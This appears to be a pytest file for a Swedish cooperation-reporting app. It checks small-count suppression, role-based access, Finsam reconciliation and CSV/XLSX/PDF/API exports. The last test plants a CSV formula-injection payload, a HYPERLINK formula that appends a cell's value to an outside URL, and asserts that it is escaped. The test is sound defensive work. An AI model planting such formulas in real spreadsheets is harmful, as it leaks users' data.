"""The report as the styrgrupp and the projektledare meet it: pages, CSV, XLSX, PDF and the
API all show the small-number rule for the styrgrupp and exact counts for the team's own
projektledare; the CSV opens as UTF-8 with å ä ö intact and the XLSX has the same numbers."""

from __future__ import annotations

import csv
import io
import re
import zlib

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from samverkan.auth.services import create_token
from samverkan.core.audit import AuditEntry
from samverkan.core.db import db
from samverkan.rapporter.models import FinsamRegistrering, NyckeltalMal
from samverkan.rapporter.tabell import FOTNOT
from tests.api.helpers import Api

Q1 = "period=2026-K1"
# New: 1 + 2 + 1 = 4. "<3 + <3 + <3 = 4" pins none alone, but with the rest of the kub one
# of them reads "–" (rule 5), which leaves every "<3" free.
KON_DOLD = [["Kön", "Deltagare under perioden", "Varav nya (aktualiserade)"],
            ["Kvinna", "<3", "<3"], ["Man", "<3", "<3"], ["Annat / vill ej uppge", "<3", "–"], ["Totalt", "5", "4"]]
KON_EXAKT = [KON_DOLD[0], ["Kvinna", "2", "1"], ["Man", "2", "2"], ["Annat / vill ej uppge", "1", "1"],
             ["Totalt", "5", "4"]]


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so Excel reads å ä ö"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _td_antal(html: str) -> list[str]:
    return re.findall(r'<td class="typ-antal(?: dold)?">([^<]*)</td>', html)


def test_styrgrupp_page_hides_every_small_count(facit, login):
    client = login(facit.users["styrgrupp"])
    html = client.get(f"/rapporter/period?team={facit.team.id}&{Q1}").get_data(as_text=True)
    antal = _td_antal(html)
    assert antal and "&lt;3" in antal
    assert not {"1", "2"} & set(antal), "a count under 3 shown to the styrgrupp"
    assert "Små tal är dolda" in html
    # Charts are SVG with a title and description; the table beside carries the numbers.
    assert '<title id="diagram-alder-titel">' in html and '<desc id="diagram-alder-beskrivning">' in html
    förbund = client.get(f"/rapporter/period?team=alla&{Q1}").get_data(as_text=True)
    assert not {"1", "2"} & set(_td_antal(förbund))


def test_projektledare_sees_the_own_team_exactly_and_nothing_else(facit, login):
    client = login(facit.users["projektledare"])
    html = client.get(f"/rapporter/period?{Q1}").get_data(as_text=True)  # own team by default
    assert "Trisam Testby" in html and {"1", "2"} <= set(_td_antal(html))
    assert client.get(f"/rapporter/period?team={facit.annat_team.id}&{Q1}").status_code == 403
    assert client.get(f"/rapporter/period?team=alla&{Q1}").status_code == 403
    assert _csv(client.get(f"/rapporter/period/export.csv?tabell=kon&{Q1}")) == KON_EXAKT


def test_a_ledamot_gets_no_report(facit, login):
    client = login(facit.users["ledamot_fk"])
    for url in ("/rapporter/", "/rapporter/nyckeltal", f"/rapporter/period?{Q1}",
                f"/rapporter/period/export.csv?{Q1}"):
        assert client.get(url).status_code == 403, url


def test_csv_is_utf8_with_swedish_characters_and_hides_small_numbers(facit, login):
    client = login(facit.users["styrgrupp"])
    # The footnote explaining "<3" and "–" follows the table (issue 17).
    assert _csv(client.get(f"/rapporter/period/export.csv?team={facit.team.id}&tabell=kon&{Q1}")) == [
        *KON_DOLD, [], [FOTNOT]]
    alla = _csv(client.get(f"/rapporter/period/export.csv?team={facit.team.id}&{Q1}"))
    text = "\n".join(";".join(r) for r in alla)
    for ord_ in ("Försäkringskassan", "Ålder", "Subventionerad anställning", "Sysselsättning före och efter"):
        assert ord_ in text
    # Outside the meetings table (meetings are not people) no cell says 1 or 2.
    sektion = None
    for rad in alla:
        if len(rad) == 1:
            sektion = rad[0]
            continue
        if sektion not in ("Möten", "Närvaro per part"):  # meetings, not people
            assert not {"1", "2"} & set(rad[1:]), (sektion, rad)


def test_xlsx_has_the_same_numbers_as_the_csv(facit, login):
    client = login(facit.users["styrgrupp"])
    args = f"team={facit.team.id}&{Q1}"
    response = client.get(f"/rapporter/period/export.xlsx?{args}")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.get_data()))
    assert "Deltagare efter kön" in wb.sheetnames
    for blad, nyckel in (("Deltagare efter kön", "kon"), ("Utfall vid avslut efter kön", "utfall"),
                         ("Genomsnittlig tid i dagar efter kön", "tider")):
        rader = [list(rad) for rad in wb[blad[:31]].iter_rows(min_row=4, values_only=True)]  # sheet names: 31 chars
        csv_rader = _csv(client.get(f"/rapporter/period/export.csv?tabell={nyckel}&{args}"))
        assert len(rader) >= len(csv_rader)
        for xr, cr in zip(rader, csv_rader, strict=False):
            assert [_tal(v) for v in xr[:len(cr)]] == [_tal(v) for v in cr], blad
    kon = list(wb["Deltagare efter kön"].iter_rows(min_row=5, max_row=8, values_only=True))
    assert kon[-1][:3] == ("Totalt", 5, 4)  # numbers as numbers, marks as text
    assert kon[0][:3] == ("Kvinna", "<3", "<3") and kon[2][:3] == ("Annat / vill ej uppge", "<3", "–")


def _tal(v):
    """A cell as a number where it is one ("33,3" in the CSV, 33.3 in the XLSX), else its text."""
    if v is None or v == "":
        return None
    try:
        return float(str(v).replace(",", "."))
    except ValueError:
        return str(v)


def _pdf_text(data: bytes) -> str:
    text = []
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            text.append(zlib.decompress(stream).decode("latin-1"))
        except zlib.error:
            text.append(stream.decode("latin-1"))
    return "\n".join(text)


def test_pdf_is_laid_out_like_the_quarterly_report_and_hides_small_numbers(facit, login):
    response = login(facit.users["styrgrupp"]).get(f"/rapporter/period/rapport.pdf?team={facit.team.id}&{Q1}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    data = response.get_data()
    assert data.startswith(b"%PDF")
    text = _pdf_text(data)
    assert "Kvartalsrapport: Kvartal 1 2026" in text
    assert "Insatstyp efter k\\366n" in text or "Insatstyp efter kön" in text
    # Every cell of the kön table rows is "<3" (written as a PDF string).
    assert text.count("(<3)") >= 6
    assert "Antal under 3 personer visas som <3" in text


@pytest.fixture
def api_som(client, facit):
    def _api(key: str) -> Api:
        _, secret = create_token(facit.users[key], "test")
        db.session.commit()
        return Api(client, secret)
    return _api


def test_api_aggregates_suppressed_for_styrgrupp_exact_for_projektledare(facit, api_som):
    dold = api_som("styrgrupp").get(f"/rapporter/period?team_id={facit.team.id}&{Q1}")
    assert dold.status_code == 200
    kon = next(t for t in dold.get_json()["tabeller"] if t["nyckel"] == "kon")
    assert [r["varden"] for r in kon["rader"]] == [[5 if v == "5" else 4 if v == "4" else v for v in r[1:]]
                                                   for r in KON_DOLD[1:]]
    assert dold.get_json()["exakt"] is False
    exakt = api_som("projektledare").get(f"/rapporter/period?{Q1}").get_json()
    kon = next(t for t in exakt["tabeller"] if t["nyckel"] == "kon")
    assert [r["varden"] for r in kon["rader"]] == [[2, 1], [2, 2], [1, 1], [5, 4]]
    nyckeltal = api_som("styrgrupp").get(f"/rapporter/nyckeltal?team_id={facit.team.id}&{Q1}").get_json()
    assert {n["nyckel"]: n["varde"] for n in nyckeltal["nyckeltal"]}["samcoach_pagaende"] == "<3"
    assert api_som("ledamot_af").get(f"/rapporter/period?{Q1}").status_code == 403
    assert api_som("styrgrupp").get("/rapporter/period?period=2026-K9").status_code == 422


def test_nyckeltal_dashboard_for_styrgrupp(facit, login):
    html = login(facit.users["styrgrupp"]).get(f"/rapporter/nyckeltal?team={facit.team.id}&{Q1}") \
        .get_data(as_text=True)
    assert "Pågående hos samcoach" in html and "Kvartal 4 2025" in html
    # One samcoach place at the quarter's end: hidden from the styrgrupp.
    assert re.search(r"Pågående hos samcoach<span[^>]*>[^<]*</span></th>\s*<td>&lt;3</td>", html)
    assert "Ändra mål" not in html  # the styrgrupp reads targets, does not set them


def test_targets_are_set_by_projektledare_for_the_team_and_admin_for_the_forbund(facit, login, client):
    def antal():
        return db.session.scalar(select(func.count()).select_from(NyckeltalMal))

    pl = login(facit.users["projektledare"])
    svar = pl.post("/rapporter/nyckeltal/mal", data={"team": facit.team.id, "nyckel": "aktualiseringar", "mal": "25"})
    assert svar.status_code == 303 and antal() == 1
    assert pl.post("/rapporter/nyckeltal/mal", data={"team": "", "nyckel": "aktualiseringar", "mal": "5"}).status_code == 403
    svar = pl.post("/rapporter/nyckeltal/mal", data={"team": facit.team.id, "nyckel": "handlingsplan", "mal": "120",
                                                    "parameter": "2"})
    assert svar.status_code == 303 and antal() == 1  # refused: a share above 100 %
    client.post("/logga-ut")
    sg = login(facit.users["styrgrupp"])
    assert sg.post("/rapporter/nyckeltal/mal", data={"team": facit.team.id, "nyckel": "aktualiseringar",
                                                     "mal": "1"}).status_code == 403
    assert antal() == 1


def test_finsam_reconciliation_for_the_projektledare_only(facit, login, client):
    sg = login(facit.users["styrgrupp"])
    assert sg.get(f"/rapporter/team/{facit.team.id}/finsam").status_code == 404
    client.post("/logga-ut")
    pl = login(facit.users["projektledare"])
    html = pl.get(f"/rapporter/team/{facit.team.id}/finsam").get_data(as_text=True)
    # a1–a5, a6 and a7 are entitled; a8 is felregistrerad, a10 never aktualiserad.
    assert html.count('class="ruta finsam"') == 7
    assert "Start ej registrerad" in html and "Rehabiliteringspenning" in html
    arende_id = int(re.search(r'id="a(\d+)"', html).group(1))
    assert pl.post(f"/rapporter/team/{facit.team.id}/finsam/{arende_id}", data={"del": "start"}).status_code == 303
    reg = db.session.execute(select(FinsamRegistrering)).scalar_one()
    assert reg.arende_id == arende_id and reg.start_registrerad is not None
    handlingar = set(db.session.scalars(select(AuditEntry.handling)))
    assert {"finsam.visa", "finsam.registrera"} <= handlingar
    # The first is a6, already closed: its end is now what is missing.
    saknas = pl.get(f"/rapporter/team/{facit.team.id}/finsam?visa=saknas").get_data(as_text=True)
    assert saknas.count('class="ruta finsam"') == 7 and "Avslut ej registrerat" in saknas
    assert pl.post(f"/rapporter/team/{facit.team.id}/finsam/{arende_id}", data={"del": "slut"}).status_code == 303
    saknas = pl.get(f"/rapporter/team/{facit.team.id}/finsam?visa=saknas").get_data(as_text=True)
    assert saknas.count('class="ruta finsam"') == 6
    rader = _csv(pl.get(f"/rapporter/team/{facit.team.id}/finsam.csv"))
    assert rader[0][:4] == ["Referens", "Personnummer", "Kön", "Födelseår"] and len(rader) == 8 + 3
    # Issue 17: the export counts its participants, anonymous ones too.
    assert rader[-2:] == [["Deltagare", "7"], ["Varav anonyma (utan personnummer)", "0"]]
    assert "finsam.export" in set(db.session.scalars(select(AuditEntry.handling)))


def test_a_formula_typed_as_a_name_stays_text_in_csv_and_xlsx(facit, login):
    # Issue 18 point 4: an insats type named like a formula must not run in Excel.
    from samverkan.insatser.models import Insatstyp

    namn = '=HYPERLINK("http://example.org/"&B2,"Klicka")'
    db.session.add(Insatstyp(forbund_id=facit.forbund.id, kod="formel", namn=namn, ordning=99))
    db.session.add(Insatstyp(forbund_id=facit.forbund.id, kod="plus", namn="+1 och @summa", ordning=100))
    db.session.commit()
    client = login(facit.users["projektledare"])
    rader = _csv(client.get(f"/rapporter/period/export.csv?tabell=insatstyp&{Q1}"))
    etiketter = [r[0] for r in rader]
    assert "'" + namn in etiketter and "'+1 och @summa" in etiketter and namn not in etiketter
    wb = load_workbook(io.BytesIO(client.get(f"/rapporter/period/export.xlsx?{Q1}").get_data()))
    celler = [c for rad in wb["Insatstyp efter kön"].iter_rows() for c in rad if c.value == namn]
    assert celler and all(c.data_type == "s" for c in celler)
